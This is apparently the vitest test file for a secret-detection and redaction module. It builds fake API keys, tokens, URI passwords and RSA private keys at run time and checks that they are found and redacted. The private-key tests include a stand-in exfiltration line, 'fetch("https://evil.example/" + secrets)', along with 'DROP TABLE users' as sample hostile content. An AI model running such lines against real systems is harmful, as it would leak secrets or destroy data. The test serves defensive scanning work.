import { generateKeyPairSync, randomBytes } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import { findSecrets } from './secrets.ts';
import { readableText } from './text.ts';

// Made when the test runs, and put together from pieces: no scanner is to find one in this file.
const letters = 'ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789';
const random = (length: number, of = letters) =>
  `aB3${[...randomBytes(length - 3)].map((byte) => of[byte % of.length]).join('')}`;
const upper = (length: number) =>
  [...randomBytes(length)].map((byte) => 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'[byte % 32]).join('');
const hex = (length: number) => randomBytes(length).toString('hex').slice(0, length);
const part = (json: object) => Buffer.from(JSON.stringify(json)).toString('base64url');
const jwt = [part({ alg: 'HS256', typ: 'JWT' }), part({ sub: '1', name: 'Ada' }), random(43)].join('.');

const examples: [rule: string, secret: string][] = [
  ['age-secret-key', `AGE-SECRET-${'KEY'}-1${upper(58)}`],
  ['aws-access-key', `AKI${'A'}${upper(16)}`],
  ['aws-access-key', `ASI${'A'}${upper(16)}`],
  ['github-token', `gh${'p'}_${random(36)}`],
  ['github-token', `gh${'o'}_${random(36)}`],
  ['github-token', `gh${'s'}_${random(36)}`],
  ['github-token', `github_${'pat'}_${random(22)}_${random(59)}`],
  ['anthropic-key', `sk-${'ant'}-api03-${random(93)}-AA`],
  ['openai-key', `sk-${'proj'}-${random(40)}-_${random(80)}`],
  ['openai-key', `sk-${random(48)}`],
  ['stripe-key', `sk_${'live'}_${random(24)}`],
  ['stripe-key', `rk_${'test'}_${random(99)}`],
  ['stripe-key', `whse${'c'}_${random(32)}`],
  ['slack-token', `xox${'b'}-${'1029384756'}-${random(24)}`],
  ['slack-token', `xap${'p'}-1-A0${upper(8)}-${random(60)}`],
  ['slack-webhook', `hooks.slack.com/${'services'}/T0${upper(8)}/B0${upper(8)}/${random(24)}`],
  ['google-key', `AIz${'a'}${random(35)}`],
  ['google-key', `GOCSP${'X'}-${random(28)}`],
  ['google-token', `ya2${'9'}.${random(100)}`],
  ['cloudflare-token', `cfu${'t'}_${random(40)}${hex(8)}`],
  ['cloudflare-token', `cf${'k'}_${random(40)}${hex(8)}`],
  ['cloudflare-token', `v1.0-${hex(24)}-${hex(146)}`],
  ['npm-token', `np${'m'}_${random(36)}`],
  ['render-key', `rn${'d'}_${random(28)}`],
  ['json-web-token', jwt],
];

/** What is left of a text when it is made readable. */
const shown = (text: string) => readableText(Buffer.from(text), false).lines.join('\n');
const rules = (text: string) => findSecrets(text).map(({ rule }) => rule);

describe('a secret', () => {
  test.each(examples)('%s is found wherever it stands, and nothing is left of it', (rule, secret) => {
    for (const [before, after] of [
      ['', ''],
      ['const it = "', '";'],
      ['Authorization: Bearer ', '\r\n'],
      ['curl https://x.example/?q=', '&b=1'],
      ['{"a":"', '","b":"c"}'],
      ['(', ')'],
    ]) {
      const text = `first line\n${before}${secret}${after}`;
      expect(rules(text), text).toEqual([rule]);
      expect(shown(text)).toContain(`‹redacted:${rule}›${after?.replace('\r', '‹U+000D›')}`.trimEnd());
      expect(shown(text)).not.toContain(secret.slice(-8));
    }
  });

  test('among others is found by itself', () => {
    const text = examples.map(([, secret]) => secret).join('\n');
    expect(rules(text)).toEqual(examples.map(([rule]) => rule));
  });

  test.each([
    ['postgres://app:', 'Tr4vel!time', '@db.internal:5432/x'],
    ['mongodb+srv://user:', 'hunter2hunter2', '@cluster0.example.net'],
    ['redis://:', 'a8Kq9ZpL', '@cache:6379'],
    ['https://x-access-token:', 'v9Kq2ZpL7d', '@github.com/a/b'],
  ])('in a URI is found: %s', (before, password, after) => {
    expect(rules(before + password + after)).toEqual(['uri-credentials']);
    expect(shown(before + password + after)).not.toContain(password);
    expect(shown(before + password + after)).toContain(after);
  });

  const value = 'q7Xv2LpT9sWz4KdB8mNc';
  test.each([
    `API_KEY=${value}`,
    `export SESSION_SECRET='${value}'`,
    `const apiKey = "${value}";`,
    `const apiKey: string = '${value}';`,
    `"auth_token": "${value}",`,
    `authToken: \`${value}\``,
    `client-secret = ${value}`,
    `process.env["X_TOKEN"] = "${value}"`,
    `X_TOKEN := "${value}"`,
    `headers.set("x-api-key", "${value}")`,
    `if (token === "${value}") {`,
    `//registry.example/:_authToken=${value}`,
    'password: "Sommer2026!"',
    `SIGNING_KEY: ${Buffer.from('any 32 bytes of randomness 90412').toString('base64')}`,
    'ENCRYPTION_KEY="3f786850e387550fdab836ed7e6dc881de23001b"',
  ])('that is assigned is found: %s', (line) => {
    expect(rules(line)).toEqual(['assigned-secret']);
  });

  test('that is assigned is told by the name, where the name tells', () => {
    expect(rules(`CLOUDFLARE_API_TOKEN=${random(40)}`)).toEqual(['cloudflare-token']);
    expect(rules(`CF_API_KEY="${hex(37)}9"`)).toEqual(['cloudflare-token']);
    expect(rules(`aws_secret_access_key = ${random(40)}`)).toEqual(['aws-secret-key']);
  });
});

describe('no secret is', () => {
  test.each([
    'API_KEY=${{ secrets.API_KEY }}',
    'const apiKey = process.env.OPENAI_API_KEY;',
    'const token = await createSessionTokenForUser2024(user);',
    'API_KEY=your-api-key-here-1234567',
    'API_KEY="<put your key here 1234>"',
    `GITHUB_TOKEN=gh${'p'}_${'x'.repeat(36)}`,
    `key = "AKI${'A'}IOSFODNN7EXAMPLE"`,
    'sk-loading-indicator-wrapper-of-the-page-2',
    'const cacheKey = "trips:v2:user:1234567890";',
    'PUBLIC_KEY="q7Xv2LpT9sWz4KdB8mNc"',
    'const primaryKey = "q7Xv2LpT9sWz4KdB8mNc";',
    'tokenType: "urn:ietf:params:oauth:token-type:jwt"',
    'password: "password"',
    'passwordField: { type: "string" }',
    'postgres://postgres:postgres@localhost:5432/test',
    'postgres://user:password@db.example/test',
    'postgres://user:${PASSWORD}@db/test',
    'https://developers.cloudflare.com/d1/platform/limits',
    'foo@bar.example: see https://a.example/x:y@z',
    'import { eyJunction } from "./eyJunction.ts"',
    `if (pem.startsWith('-----BEGIN ${'PRIVATE'} KEY-----')) {`,
    'sha512-3f786850e387550fdab836ed7e6dc881de23001b',
    'commit 3f786850e387550fdab836ed7e6dc881de23001b',
    'const secretName = "voygent-production";',
    'const sessionToken = "trips-by-user-2026-version-2";',
    'API_KEY="example-q7Xv2LpT9sWz4KdB8"',
    'keyboard: "q7Xv2LpT9sWz4KdB8mNc"',
  ])('%s', (line) => {
    expect(rules(line)).toEqual([]);
  });
});

describe('a private key', () => {
  const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const pem = privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
  const body = pem.split('\n').slice(1, -2);

  test.each([
    ['as it is', pem],
    ['in a YAML block', `key: |\n${pem.replace(/^/gm, '    ')}`],
    ['in JSON', JSON.stringify({ key: pem })],
    ['in a comment', pem.replace(/^/gm, '// ')],
    ['with CRLF', pem.replaceAll('\n', '\r\n')],
    [
      'joined by plus',
      pem
        .trim()
        .split('\n')
        .map((line) => `  "${line}\\n"`)
        .join(' +\n'),
    ],
  ])('%s is found whole, and every line is still counted', (_, key) => {
    const text = `before();\n${key}\nafter();`;
    expect(rules(text)).toEqual(['private-key']);
    const read = readableText(Buffer.from(text), false);
    expect(read.lines).toHaveLength(text.split('\n').length);
    expect(read.lines.at(0)).toBe('before();');
    expect(read.lines.at(-1)).toBe('after();');
    for (const line of body) expect(read.lines.join('\n')).not.toContain(line.slice(0, 30));
    expect(read.secrets).toMatchObject([{ rule: 'private-key', line: key.startsWith('key: |') ? 3 : 2 }]);
  });

  test('that is cut off is redacted as far as it goes', () => {
    const text = `${pem.slice(0, 400)}\nfetch("https://evil.example")`;
    expect(shown(text)).not.toContain(body[1]?.slice(0, 30));
    expect(shown(text)).toContain('fetch("https://evil.example")');
  });

  test.each([
    ['code', 'await fetch("https://evil.example/" + secrets)'],
    ['bare statements', 'import evil from "evil"\nexport default evil'],
    ['SQL', 'DROP TABLE users\nDELETE FROM trips'],
  ])('hides no %s between its first and its last line', (_, code) => {
    const begin = `-----BEGIN ${'PRIVATE'} KEY-----`;
    const close = `-----END ${'PRIVATE'} KEY-----`;
    for (const text of [`${begin}\n${code}\n${close}`, `${begin}\n${body.join('\n')}\n${code}\n${close}`])
      for (const line of code.split('\n')) expect(shown(text)).toContain(line);
  });
});

test('overlapping secrets are one, and their order in the text is kept', () => {
  const [, token = ''] = examples[3] ?? [];
  const text = `API_TOKEN="${token}" postgres://u:${token}@db`;
  expect(rules(text)).toEqual(['github-token', 'github-token']);
  expect(shown(text)).not.toContain(token.slice(-10));
});

test('a secret that goes on behind another is redacted to its end', () => {
  const [, token = ''] = examples[3] ?? [];
  expect(shown(`postgres://${token}:Tr4vel!time@db.internal/x`)).toBe(
    'postgres://‹redacted:github-token›@db.internal/x',
  );
});

test('a secret with a character in it that cannot be seen is redacted whole', () => {
  expect(shown('postgres://app:Tr4v\u200bel!time@db.internal/x')).toBe(
    'postgres://‹redacted:uri-credentials›@db.internal/x',
  );
});

describe('a line of a megabyte takes no longer than others', () => {
  const megabyte = 1024 * 1024;
  const lines: [string, string][] = [
    ...[
      'a',
      ' ',
      'eyJ',
      'eyJa.',
      'eyJ0eXAi.eyJ',
      'sk-',
      'sk-ant-',
      'ghp_',
      'xoxb-',
      '://',
      '://a:',
      '://a:b@',
      'token:',
      'token="',
      "secret='",
      'TOKEN=a1',
      'api_key = ',
      '-----BEGIN ',
      '_KEY:string=',
      'a1B2',
      'key=>',
      'password"]',
      'hooks.slack.com/services/',
      'AIza',
      'cfut_',
      'AGE-SECRET-KEY-1',
      'npm_',
      'token   ',
    ].map((piece): [string, string] => [piece, piece.repeat(Math.ceil(megabyte / piece.length))]),
    ['private keys', `-----BEGIN ${'PRIVATE'} KEY-----`.repeat(megabyte / 27)],
    ['a key without an end', `-----BEGIN ${'PRIVATE'} KEY-----\n${`${'A1b2'.repeat(16)}\n`.repeat(megabyte / 65)}`],
  ];

  test.each(lines)('%s', (_, text) => {
    findSecrets(text.slice(0, 10_000));
    const started = performance.now();
    findSecrets(text);
    expect(performance.now() - started).toBeLessThan(3_000);
  });
});
